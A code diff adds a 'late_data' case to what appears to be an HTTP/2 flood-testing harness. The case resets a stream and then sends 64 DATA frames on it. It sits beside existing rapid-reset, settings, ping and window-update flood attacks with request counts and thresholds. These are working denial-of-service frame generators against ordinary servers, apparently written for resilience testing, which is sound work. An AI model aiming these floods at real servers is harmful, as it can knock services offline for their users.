@@ -30,6 +30,15 @@ def rapid_reset(c, i):
     return h + frame(RST, 0, stream, struct.pack(">I", 8))
 
 
+def late_data(c, i):
+    """DATA after its own reset, which netty sends and we pass over."""
+    stream, h = opening(c)
+    if i:
+        c.next -= 2
+        return frame(DATA, 0, 1, b"x") * 64
+    return h + frame(RST, 0, stream, struct.pack(">I", 8))
+
+
 def window_zero(c, i):
     stream, h = opening(c)
     return h + frame(WINDOW, 0, stream, struct.pack(">I", 0))
@@ -131,6 +140,7 @@ ATTACKS = [
     Attack("ping_unread", ping, 9000, 6000, read=False),
     Attack("settings_flood", settings, 3000, 2400),
     Attack("settings_unread", settings, 9000, 6000, read=False),
+    Attack("late_data", late_data, 3000, 2400),
     Attack("empty_data", empty_data, 3000, 2400),
     Attack("priority_flood", priority, 3000, 2400),
     Attack("window_update_flood", window_update, 3000, 2400),
